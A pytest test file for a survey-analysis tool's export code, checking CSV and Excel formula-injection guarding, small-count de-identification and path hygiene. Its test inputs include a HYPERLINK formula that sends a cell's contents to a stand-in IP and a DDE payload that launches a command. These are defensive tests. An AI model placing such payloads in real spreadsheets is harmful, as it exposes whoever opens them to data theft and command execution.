"""What leaves the house: every table, no person, and no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from carebench import audit
from carebench.finding import FEWEST, Finding, Skipped
from carebench.reporting.columns import meaning
from carebench.reporting.deidentify import PLACES, STEPS, deidentified
from carebench.reporting.dictionary import MEANINGS
from carebench.reporting.export import WORKBOOK, _without_folders, export
from carebench.reporting.questions import lists, questions
from carebench.reporting.spreadsheets import csv_text, guarded, write_workbook
from carebench.schema import DataError
from conftest import EXAMPLE, ROOT
from studies import attempts, study, write_study

ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\xa0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\tharmless",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"see")',
    "=cmd|' /C calc'!A0",
    '"=1+1',
    "a;=1+1",
    'a"\n=1+1',
]
HARMLESS = ["Sao Mai", "Trăng Non", "3/28", "a = b", "2026-Q3", "e-mail", "a, -b", "'quoted'"]
OPENS = re.compile(r"[\s\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]")


@pytest.fixture(scope="module")
def example(tmp_path_factory):
    """The example study exported twice: for anyone, and for the audit team alone."""
    folder = tmp_path_factory.mktemp("example")
    for name, identified in (("open", False), ("identified", True)):
        export(EXAMPLE, out=folder / name, identified=identified)
    return folder


def _csv(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False, dtype=str)


@pytest.mark.parametrize("text", ATTACKS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_a_csv_opens_a_formula_whatever_parts_the_cells(text, delimiter):
    written = csv_text(pd.DataFrame({"a": [text], "b": ["x"]})).removeprefix("\ufeff")
    cells = [c for row in csv.reader(io.StringIO(written, newline=""), delimiter=delimiter)
             for c in row]  # fmt: skip
    assert len(cells) >= 2
    assert not [cell for cell in cells if OPENS.match(cell)]


@pytest.mark.parametrize("text", [t for t in ATTACKS if t != '"=1+1'])
def test_what_was_guarded_reads_back_but_for_the_apostrophes(text):
    written = csv_text(pd.DataFrame({"a": [text]}))
    (_head, (cell,)) = csv.reader(io.StringIO(written, newline=""))
    assert cell != text and cell.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_stays_as_it_is(text):
    assert guarded(text) == text


def test_no_cell_of_a_workbook_is_a_formula_and_each_says_it_is_text(tmp_path):
    table = pd.DataFrame({"text": [*ATTACKS, "#REF!", "bell \x07"], "number": -1.5})
    write_workbook({"attack": table}, tmp_path / "t.xlsx")
    rows = list(openpyxl.load_workbook(tmp_path / "t.xlsx")["attack"].rows)[1:]
    assert [row[0].data_type for row in rows] == ["s"] * len(table)
    kept = [text.replace("\r", "\n") for text in table["text"][:-1]]  # XML knows one end of a line
    assert [row[0].value for row in rows[:-1]] == kept
    assert rows[-1][0].value == "bell "
    assert all(row[0].quotePrefix for row in rows[: ATTACKS.index('"=1+1')])


def test_numbers_stay_numbers_in_both(tmp_path):
    table = pd.DataFrame({"a": [-1.5, float("nan")], "b": pd.array([-3, 7], dtype="Int64")})
    assert csv_text(table).splitlines()[1:] == ["-1.5,-3", ",7"]
    write_workbook({"t": table}, tmp_path / "t.xlsx")
    first, second = list(openpyxl.load_workbook(tmp_path / "t.xlsx")["t"].rows)[1:]
    assert [cell.value for cell in first] == [-1.5, -3] and first[0].data_type == "n"
    assert [cell.value for cell in second] == [None, 7]


def test_a_limit_that_is_not_finite_is_an_empty_cell_and_the_dictionary_says_so(tmp_path):
    table = pd.DataFrame({"low": [2.5], "high": [float("inf")], "least": [float("-inf")]})
    assert csv_text(table).splitlines()[1] == "2.5,,"
    write_workbook({"t": table}, tmp_path / "t.xlsx")
    cells = list(openpyxl.load_workbook(tmp_path / "t.xlsx")["t"].rows)[1]
    assert [cell.value for cell in cells] == [2.5, None, None]
    assert "empty beside a lower one" in MEANINGS["high"]


def test_names_that_a_spreadsheet_would_refuse_become_sheets(tmp_path):
    table = pd.DataFrame({"a": [1]})
    names = ["x" * 40, "x" * 41, "a/b:c", "A-B-C"]
    write_workbook(dict.fromkeys(names, table), tmp_path / "t.xlsx")
    sheets = openpyxl.load_workbook(tmp_path / "t.xlsx").sheetnames
    assert len(sheets) == 4 and all(len(name) <= 31 for name in sheets)


def test_a_providers_name_cannot_attack_through_an_export(tmp_path):
    care = attempts({"=HYPERLINK(1)": (6, 9), "@SUM(A1)": (8, 9)})
    export(write_study(tmp_path, attempts=care), out=tmp_path / "out")
    for path in (tmp_path / "out").glob("*.csv"):
        text = path.read_text(encoding="utf-8-sig")
        assert not [
            c for row in csv.reader(io.StringIO(text, newline="")) for c in row
            if OPENS.match(c) and not re.fullmatch(r"-?[\d.e+-]+", c)
        ], path.name  # fmt: skip
    assert (
        "'=HYPERLINK(1)"
        in _csv(tmp_path / "out" / "answered-by-provider-email.csv")["provider"].tolist()
    )
    book = openpyxl.load_workbook(tmp_path / "out" / WORKBOOK)
    assert not [c for sheet in book for row in sheet.rows for c in row if c.data_type in "fe"]


def test_every_answer_that_a_notebook_shows_is_exported_or_said_to_be_left_out(example):
    contents = _csv(example / "identified" / "contents.csv")
    book = openpyxl.load_workbook(example / "identified" / WORKBOOK, read_only=True)
    for path in sorted((ROOT / "notebooks").glob("*.ipynb")):
        notebook = json.loads(path.read_text(encoding="utf-8"))
        source = "\n".join("".join(c["source"]) for c in notebook["cells"])
        shown = set(
            re.findall(r"^show_(?:table|figure)\(.*?((?:\w+)\.\w+\(care.*\))\)$", source, re.M)
        )
        assert len(shown) >= 5
        found = contents[contents["notebook"].eq(path.stem)]
        listed = {question.text for question in lists(questions(notebook, path.stem))}
        shown = {text.replace('"', "'") for text in shown}
        assert shown | listed == set(found["question"]) - {""}
    for row in contents.to_dict("records"):
        written = (example / "identified" / f"{row['table']}.csv").exists() and row["table"]
        assert bool(written) != bool(row["left_out"]), row
        assert not written or row["table"][:31] in book.sheetnames
        assert not written or len(_csv(example / "identified" / f"{row['table']}.csv")) == int(
            row["rows"]
        )


def test_the_numbers_are_the_reports_own_and_not_rounded(example, example_of):
    exported = _csv(example / "open" / "answered-by-provider-email.csv")
    answer = audit.by_group(example_of(""), "email")
    assert isinstance(answer, Finding)
    assert exported["provider"].tolist() == answer.rows["provider"].tolist()
    for name in ("value", "low", "high", "n"):
        assert exported[name].astype(float).tolist() == answer.rows[name].astype(float).tolist()


def test_a_csv_and_its_sheet_hold_the_same(example):
    book = openpyxl.load_workbook(example / "open" / WORKBOOK, read_only=True)
    for name in ("answered-by-channel", "groups", "dictionary"):
        table = _csv(example / "open" / f"{name}.csv")
        head, *rows = book[name].iter_rows(values_only=True)
        assert list(head) == list(table.columns) and len(rows) == len(table)
        assert [str(row[0]) for row in rows] == table.iloc[:, 0].tolist()


def test_every_column_of_every_table_stands_in_the_dictionary_with_a_meaning(example):
    for kind in ("open", "identified"):
        words = _csv(example / kind / "dictionary.csv")
        known = set(zip(words["table"], words["column"], strict=True))
        assert (words["meaning"] != "").all()
        for path in (example / kind).glob("*.csv"):
            if path.stem not in ("dictionary", "provenance"):
                for column in _csv(path).columns:
                    assert (path.stem, column) in known
                    assert re.fullmatch(r"\w+", column)


def test_no_column_is_explained_by_its_own_name_alone(example, example_of):
    """But where a table has a column for each of several words, which explain themselves."""
    contents = _csv(example / "identified" / "contents.csv")
    asked = {question for question in contents["question"] if question}
    checked = 0
    care = example_of("")
    for path in sorted((ROOT / "notebooks").glob("*.ipynb")):
        for question in questions(json.loads(path.read_text(encoding="utf-8")), path.stem):
            answer = question.ask(care)
            assert question.text in asked
            if isinstance(answer, Finding) and answer.name != "outcomes":
                unexplained = [n for n in map(str, answer.rows) if not _explained(n, answer)]
                assert not unexplained, f"{answer.name}: add meanings to reporting/dictionary.py"
                checked += 1
    assert checked > 20


def _explained(name: str, answer: Finding) -> bool:
    known = name in MEANINGS or answer.labels.get(name)
    return bool(known) or meaning(name, answer) != name.replace("_", " ")


def _finding(rows: dict[str, list[object]], **styles: str) -> Finding:
    return Finding("test", pd.DataFrame(rows), headline="3 of 3", notes=("3 of 3",), styles=styles)


def test_numbers_that_rest_on_fewer_than_five_are_withheld_with_the_reason():
    got = deidentified(
        _finding({"group": ["a", "b", "c"], "value": [0.5, 0.4, 0.3], "n": [4, 3, 5],
                  "text": ["2/4", "1/3", "2/5"]})
    )  # fmt: skip
    assert isinstance(got, Finding)
    assert got.rows["group"].tolist() == [None, None, "c"]
    assert got.rows["value"].tolist() == [None, None, 0.3]
    assert got.rows["n"].tolist() == [None, None, 5]
    assert got.rows["text"].tolist() == [None, None, "2/5"]
    assert [bool(reason) for reason in got.rows["reason"]] == [True, True, False]
    assert got.headline == "" and got.notes == ()


def test_a_single_withheld_row_cannot_be_found_by_subtraction():
    got = deidentified(
        _finding({"scheme": ["x", "x", "x", "y"], "group": list("abcd"), "n": [2, 9, 7, 18]})
    )
    assert isinstance(got, Finding)
    assert got.rows["n"].tolist() == [None, 9, None, 18]
    assert "subtraction" in got.rows["reason"][2]


def test_five_is_enough_and_then_the_words_stay():
    got = deidentified(_finding({"group": ["a"], "n": [FEWEST]}))
    assert isinstance(got, Finding)
    assert got.rows["n"].tolist() == [FEWEST] and got.headline == "3 of 3"


def test_a_small_part_of_a_row_is_withheld_and_the_row_is_not():
    got = deidentified(
        _finding({"channel": ["a", "b"], "made": [90, 80], "left": [3, 0]},
                 made="count", left="count")
    )  # fmt: skip
    assert isinstance(got, Finding)
    assert got.rows["made"].tolist() == [90, 80] and got.rows["left"].tolist() == [None, 0]


def test_a_withheld_row_keeps_its_place_and_nothing_that_tells():
    got = deidentified(
        _finding({"what": ["revenue"] * 3, "who": ["one", "others", "difference"],
                  "computed": ["₫3,957,000 / 2 customer-years", "₫9 / 8", "–"],
                  "value": [5.0, 3.0, 2.0], "n": [1, 90, 91]})
    )  # fmt: skip
    assert isinstance(got, Finding)
    assert got.rows["who"].tolist() == ["one", "others", "difference"]
    assert got.rows["computed"].tolist() == [None, None, "–"]  # a difference gives the one back
    assert got.rows["value"].tolist() == [None, None, 2.0]


def test_the_name_of_a_group_goes_where_hardly_anybody_is_in_it():
    got = deidentified(
        _finding({"group": ["rare illness", "bill", "delivery"], "n": [2, 9, 90]}), persons=True
    )
    assert isinstance(got, Finding)
    assert got.rows["group"].tolist() == [None, "bill", "delivery"]


def test_few_persons_among_many_give_their_row_away():
    rows = {"brought": ["1", "2", "3 or more"], "text": ["2%", "1%", "0.05%"], "k": [80, 20, 2],
            "value": [80 / 3705, 20 / 3705, 2 / 3705], "n": [3705] * 3}  # fmt: skip
    got = deidentified(_finding(rows))
    assert isinstance(got, Finding) and got.headline == "" and got.notes == ()
    for name in ("k", "value", "text"):  # with the next smallest: who brought any is known
        assert got.rows[name].notna().tolist() == [True, False, False], name
    assert got.rows["n"].tolist() == [3705] * 3
    firms = deidentified(_finding(rows), persons=False)
    assert isinstance(firms, Finding) and firms.rows["k"].tolist() == [80, 20, 2]


def test_one_of_several_small_counts_takes_its_own_part_with_it():
    got = deidentified(
        _finding({"cohort": ["2024", "2025"], "contracts": [7, 9], "k_6": [5, 3], "after_6":
                  ["71%", "33%"], "held_6": [5 / 7, 1 / 3], "k_1": [6, 8], "after_1": ["86%"] * 2},
                 contracts="count")
    )  # fmt: skip
    assert isinstance(got, Finding)
    for name in ("k_6", "after_6", "held_6"):
        assert got.rows[name].isna().all()
    assert got.rows["k_1"].tolist() == [6, 8] and got.rows["after_1"].tolist() == ["86%"] * 2


def test_what_nobody_was_observed_for_is_not_said_to_be_withheld():
    got = deidentified(
        _finding({"claim": ["not tested", "asked of nobody", "tested"], "n": [None, 0, 40],
                  "value": [None, None, 0.5], "low": None, "high": None,
                  "verdict": ["not tested", "nobody", "yes"], "reason": ["no data", "", ""]})
    )  # fmt: skip
    assert isinstance(got, Finding) and got.rows["verdict"].notna().all()
    assert got.rows["reason"].tolist() == ["no data", "", ""]


def test_a_pair_without_an_estimate_does_not_name_its_groups():
    got = deidentified(
        _finding({"pair": ["a against b", "two people against all others"],
                  "rates": ["29% − 32%", "– − 32%"], "value": [-3.0, None], "low": [-9.0, None],
                  "high": [3.0, None], "n": [150, 150], "reason": ["", "too few answers"]})
    )  # fmt: skip
    assert isinstance(got, Finding)
    assert got.rows["pair"].tolist() == ["a against b", None]
    assert got.rows["rates"].tolist() == ["29% − 32%", None]
    assert got.rows["reason"].tolist() == ["", "too few answers"]


def test_a_week_counts_nothing():
    got = deidentified(
        _finding({"week": [0, 1], "made": [80, 90], "foretold": [81.5, 88.0]},
                 week="count", made="count", foretold="count")
    )  # fmt: skip
    assert isinstance(got, Finding)
    assert got.rows["made"].tolist() == [80, 90] and got.rows["week"].tolist() == [0, 1]


SECRETS = ("daughter", "vip-", "two people", "3957111", "3,957,111", "8123457", "8,123,457")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The open export of a small study in which single customers stand apart everywhere."""
    folder = tmp_path_factory.mktemp("few")
    read = {
        name: pd.read_csv(EXAMPLE.parent / f"{name}.csv", dtype=str, keep_default_na=False)
        for name in ("customers", "transactions", "contacts", "contracts", "survey")
    }
    buyers = read["transactions"].groupby("customer_id", sort=False).size().loc[lambda n: n >= 3]
    ids = list(buyers.index[:120])
    kept = {
        name: table[table["customer_id"].isin(ids)].reset_index(drop=True)
        for name, table in read.items()
        if name != "survey"
    }
    people, sold = kept["customers"], kept["transactions"]
    people["referred_by"] = people["customer_id"].where(people.index == 1, "").shift(-1).fillna("")
    one = people.loc[0, "customer_id"]
    sold.loc[sold["customer_id"].eq(one), "amount"] = "0"
    sold.loc[sold["customer_id"].eq(one).idxmax(), "amount"] = "3957111"
    told = ["offered", "served_first", "taken", "revenue", "reason"]
    kept["contacts"].loc[:1, told] = ["yes", "no", "yes", "8123457", "illness of a daughter"]
    kept["contracts"].loc[:1, "segment"] = "vip-person"
    kept["survey"] = read["survey"].query("wave == '2026-Q3'").head(150).drop(columns="wave")
    kept["survey"].loc[kept["survey"].index[:2], "segment"] = "two people"
    kept["retention_trials"] = pd.DataFrame(
        {"trial": "vip-trial", "arm": ["treated", "control"], "customers": 2, "retained": [2, 1],
         "spend": [8123457, 0]}
    )  # fmt: skip
    path = write_study(folder, "[loyalty]\nmargin = 0.28", **kept)
    export(path, out=folder / "open")
    return folder / "open"


def test_no_file_of_an_open_export_tells_of_the_few(hostile):
    files = {path.name: path.read_text(encoding="utf-8-sig") for path in hostile.glob("*.csv")}
    files.pop("provenance.csv")
    told = {name: [s for s in SECRETS if s in text] for name, text in files.items()}
    assert len(files) > 40 and not {name: found for name, found in told.items() if found}


def test_a_withheld_row_of_any_table_holds_no_number_and_no_sentence(hostile, example):
    checked = 0
    for folder in (hostile, example / "open"):
        for path in folder.glob("*.csv"):
            table = _csv(path)
            if path.stem == "contents" or "reason" not in table:
                continue
            few = table[table["reason"].eq(f"Withheld: fewer than {FEWEST} observations.")]
            told = {name for name in few if few[name].ne("").any()} - {"reason"}
            assert told <= PLACES | STEPS, path.name
            checked += len(few)
    assert checked > 50


def test_no_count_of_one_to_four_persons_leaves(hostile, example):
    for folder in (hostile, example / "open"):
        contents = _csv(folder / "contents.csv").set_index("table")["question"]
        for path in folder.glob("*.csv"):
            table = _csv(path)
            if not contents.get(path.stem, "audit.").startswith("audit."):
                for name in [n for n in table if n == "k" or n.startswith("k_")]:
                    counts = pd.to_numeric(table[name])
                    assert not counts.between(1, FEWEST - 1).any(), (path.name, name)


@pytest.mark.parametrize("key", ["attempt_id", "customer_id", "respondent", "shopper"])
def test_rows_about_single_persons_are_left_out(key):
    assert isinstance(deidentified(_finding({key: ["a"], "n": [9]})), Skipped)


def test_a_table_that_hides_how_many_it_rests_on_is_left_out():
    assert isinstance(deidentified(_finding({"group": ["a"], "share": [0.5]})), Skipped)


def test_no_exact_day_no_free_text_and_no_small_number_leaves_by_default(example, tmp_path):
    day = re.compile(r"\b20\d\d-\d\d-\d\d\b")
    for path in (example / "open").glob("*.csv"):
        if path.stem == "provenance":
            continue
        table = _csv(path).drop(columns="expected", errors="ignore")  # the form of a day, no day
        assert not table.apply(lambda column: column.str.contains(day)).to_numpy().any(), path.name
        if "n" in table:
            left = pd.to_numeric(table["n"])
            assert (left.isna() | left.eq(0) | left.ge(FEWEST)).all(), path.name
    identified = _csv(example / "identified" / "audited.csv")
    assert identified["first"].str.fullmatch(day).all()
    assert "channels" not in _columns(example / "open")


def _columns(folder: Path) -> set[str]:
    return {name for path in folder.glob("*.csv") for name in _csv(path).columns}


def test_an_export_says_what_protects_it(example):
    stated = {
        kind: _csv(example / kind / "provenance.csv").set_index("name")["value"]["Protection"]
        for kind in ("open", "identified")
    }
    assert stated["open"].startswith("De-identified")
    assert "personal data" in stated["identified"]


def test_nothing_written_says_where_on_which_machine(tmp_path, example):
    (tmp_path / "another-disk").mkdir()
    attempts({"A": (6, 9)}).to_csv(tmp_path / "another-disk" / "a.csv", index=False)
    (tmp_path / "in").mkdir()
    path = tmp_path / "in" / "study.toml"
    path.write_text(
        f'title = "T"\n[tables.attempts]\npath = "{(tmp_path / "another-disk/a.csv").as_posix()}"\n'
    )
    export(path, out=tmp_path / "out")
    for folder in (tmp_path / "out", example / "open", example / "identified"):
        for file in folder.glob("*.csv"):
            text = file.read_text(encoding="utf-8")
            assert "another-disk" not in text and str(ROOT) not in text and "/tmp" not in text
        book = openpyxl.load_workbook(folder / WORKBOOK, read_only=True)
        cells = [
            str(c) for sheet in book for row in sheet.iter_rows(values_only=True) for c in row if c
        ]
        assert not [c for c in cells if "another-disk" in c or str(ROOT) in c or str(tmp_path) in c]
    assert "SHA-256 a.csv" in (tmp_path / "out" / "provenance.csv").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("name", "kept"),
    [("data/a.csv", "data/a.csv"), ("../x/a.csv", "a.csv"), ("D:\\x\\a.csv", "a.csv"),
     ("/srv/x/*.csv (30 files)", "*.csv (30 files)")],
)  # fmt: skip
def test_a_file_that_lies_elsewhere_is_named_without_its_folder(name, kept):
    assert _without_folders(name) == kept


def test_excel_sees_that_a_csv_is_utf_8(example):
    data = (example / "open" / "answered-by-provider-email.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and "Chuồn Chuồn Tre".encode() in data


def test_a_vietnamese_export_has_the_same_numbers_and_vietnamese_words(example, tmp_path):
    export(EXAMPLE, out=tmp_path / "vi", parameters={"language": "vi"})
    ours, theirs = (
        _csv(f / "answered-by-channel.csv") for f in (example / "open", tmp_path / "vi")
    )
    assert set(ours["n"]) == set(theirs["n"]) and set(ours["value"]) == set(theirs["value"])
    assert list(ours.columns) == list(theirs.columns)
    words = _csv(tmp_path / "vi" / "dictionary.csv").set_index(["table", "column"])["meaning"]
    assert words["answered-by-channel", "channel"] != "channel"


def test_an_export_never_mixes_with_an_older_one(tmp_path):
    path = write_study(tmp_path, attempts=attempts({"A": (6, 9)}))
    export(path, out=tmp_path / "out", identified=True)
    before = sorted(p.name for p in (tmp_path / "out").iterdir())
    with pytest.raises(DataError, match="not empty"):
        export(path, out=tmp_path / "out")
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == before


def test_an_export_that_fails_leaves_nothing(tmp_path, monkeypatch):
    path = write_study(tmp_path, attempts=attempts({"A": (6, 9)}))

    def full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("carebench.reporting.export.write_workbook", full)
    with pytest.raises(DataError, match="No space left"):
        export(path, out=tmp_path / "out")
    assert not (tmp_path / "out").exists()
    assert not list(tmp_path.glob(".carebench-*"))


@pytest.mark.parametrize("given", [{"wvae": "x"}, {"study": "x.toml"}, {"wave": "2031"}])
def test_a_wrong_parameter_is_one_clear_error(tmp_path, given):
    table = attempts({"A": (6, 9)}, wave="2026-Q3")
    with pytest.raises(DataError):
        export(write_study(tmp_path, attempts=table), out=tmp_path / "out", parameters=given)
    assert not (tmp_path / "out").exists()


def test_a_cell_that_shows_no_plain_question_is_refused_and_not_forgotten():
    for cell in ("show_table(rows)", "show_table(audit._secret(care))", "show_table(os.f(care))",
                 "show_table(audit.by_group(care, channel))"):  # fmt: skip
        notebook = {"cells": [{"cell_type": "code", "source": [cell]}]}
        with pytest.raises(DataError, match="cannot be exported"):
            questions(notebook, "04_mine")


def test_a_question_that_the_study_cannot_answer_is_listed_with_its_reason(tmp_path):
    with study(tmp_path, attempts=attempts({"A": (6, 9)})) as care:
        reason = audit.operator_counts(care)
    assert isinstance(reason, Skipped)
    export(tmp_path / "study.toml", out=tmp_path / "out")
    contents = _csv(tmp_path / "out" / "contents.csv").set_index("question")
    assert contents.loc["audit.operator_counts(care)", "left_out"] == reason.reason
